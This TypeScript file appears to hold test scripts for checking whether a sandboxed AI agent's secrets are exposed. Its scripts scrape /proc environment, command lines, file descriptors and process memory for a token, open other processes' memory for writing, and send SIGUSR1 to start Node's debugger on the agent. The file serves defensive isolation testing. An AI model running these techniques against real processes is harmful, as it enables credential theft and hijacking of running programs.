/**
 * JavaScript of hostile commands, which run as the same user as the agent. Each command attacks the agent and, as a control, a program
 * that it has started itself (the victim).
 */

/** Starts a program that holds a secret in environment, memory and an open file, as an agent might. */
export const startVictim = String.raw`
import { spawn } from 'node:child_process';
import fs from 'node:fs';
const control = ['control', 'of', 'the', 'test'].join('-');
fs.writeFileSync('control.txt', control);
const program = 'const held = process.env.CONTROL.toUpperCase(); fs.openSync("control.txt"); setInterval(() => held.length, 1000); console.log("ready");';
const victim = spawn('node', ['-e', program], { env: { ...process.env, CONTROL: control }, stdio: ['ignore', 'pipe', 'pipe'] });
const said = (stream, text) => new Promise((resolve) => {
  let all = '';
  stream.on('data', (chunk) => { if ((all += chunk).includes(text)) resolve(); });
});
await said(victim.stdout, 'ready');
const processes = fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name) && Number(name) !== process.pid);
const commandOf = (pid) => fs.readFileSync('/proc/' + pid + '/cmdline', 'utf8').replaceAll('\0', ' ');
const agent = processes.find((pid) => /^(\/opt\/runyard\/\S*node .*main.cjs )?agent run/.test(commandOf(pid)));
`;

const lookForSecrets = String.raw`
const found = new Set();
const look = (where, bytes) => {
  for (const [name, secret] of Object.entries(secrets)) if (bytes.includes(secret)) found.add(name + ' in ' + where);
};
const attempt = (where, pid, read) => {
  try { look(where, read()); } catch (error) { if (pid === agent) found.add(where + ' of the agent: ' + error.code); }
};
const startOf = (pid, descriptor) => {
  // Skip the pipes of the agent. Reading them would take away data for which the agent waits.
  if (pid === agent) { found.add('descriptors of the agent: ' + fs.readlinkSync('/proc/' + pid + '/fd/' + descriptor)); return Buffer.alloc(0); }
  try {
    const file = fs.openSync('/proc/' + pid + '/fd/' + descriptor, fs.constants.O_RDONLY | fs.constants.O_NONBLOCK);
    const bytes = Buffer.alloc(4096);
    try { return bytes.subarray(0, fs.readSync(file, bytes, 0, 4096, null)); } finally { fs.closeSync(file); }
  } catch { return Buffer.alloc(0); }
};
const lookInMemory = (pid) => {
  const memory = fs.openSync('/proc/' + pid + '/mem');
  for (const line of fs.readFileSync('/proc/' + pid + '/maps', 'utf8').split('\n')) {
    const [, from, to] = /^(\w+)-(\w+) rw/.exec(line) ?? [];
    if (from === undefined) continue;
    const bytes = Buffer.alloc(Math.min(parseInt(to, 16) - parseInt(from, 16), 64 << 20));
    try { look('memory', bytes.subarray(0, fs.readSync(memory, bytes, 0, bytes.length, parseInt(from, 16)))); } catch {}
  }
  fs.closeSync(memory);
  return '';
};
for (const pid of processes) {
  for (const file of ['environ', 'cmdline']) attempt(file, pid, () => fs.readFileSync('/proc/' + pid + '/' + file));
  attempt('descriptors', pid, () => Buffer.concat(fs.readdirSync('/proc/' + pid + '/fd').map((each) => startOf(pid, each))));
  attempt('memory', pid, () => lookInMemory(pid));
}
victim.kill('SIGKILL');
console.log(JSON.stringify([...found].sort()));`;

/** Opens the memory of the victim and of the first process of the sandbox for writing, as a program does that moves its code into them. */
export const openMemories = `
const open = (pid) => {
  try { fs.closeSync(fs.openSync('/proc/' + pid + '/mem', 'r+')); return 'opened'; } catch (error) { return error.code; }
};
const printed = JSON.stringify({ control: open(victim.pid), first: open(1) });
victim.kill('SIGKILL');
console.log(printed);`;

/** Sends SIGUSR1, which opens Node's inspector, to the agent and to the victim. */
export const sendSignal = String.raw`
const catches = (pid) => {
  // Ignore an error, because gVisor does not have this file.
  const caught = /SigCgt:\s+(\w+)/.exec(fs.readFileSync('/proc/' + pid + '/status', 'utf8'))?.[1];
  return caught === undefined ? 'unknown' : String((BigInt('0x' + caught) >> 9n) & 1n);
};
console.log('handled by the agent:', catches(agent), 'by the control:', catches(victim.pid));
process.kill(Number(agent), 'SIGUSR1');
process.kill(victim.pid, 'SIGUSR1');
await said(victim.stderr, ' on ');
const titles = await fetch('http://127.0.0.1:9229/json').then((answer) => answer.json());
console.log('inspector of', titles.map(({ title }) => title.includes(victim.pid) ? 'the control' : 'another process').join());
const exited = new Promise((resolve) => victim.on('exit', resolve));
victim.kill('SIGKILL');
await exited;
console.log('agent', await fetch('http://127.0.0.1:9229/json/version').then((answer) => answer.status, () => 'refused'));`;

/** Looks for the token and for the victim's secrets in all processes. Runs after `startVictim`. */
export function lookForToken(token: string): string {
  // The script contains the texts backwards. Otherwise the search would find them in the arguments of the shell that runs the script.
  const backwards = JSON.stringify([...token].reverse().join(''));
  const secrets = `{ token: [...${backwards}].reverse().join(''), control, 'capital control': control.toUpperCase() }`;
  return `const secrets = ${secrets};\n${lookForSecrets}`;
}
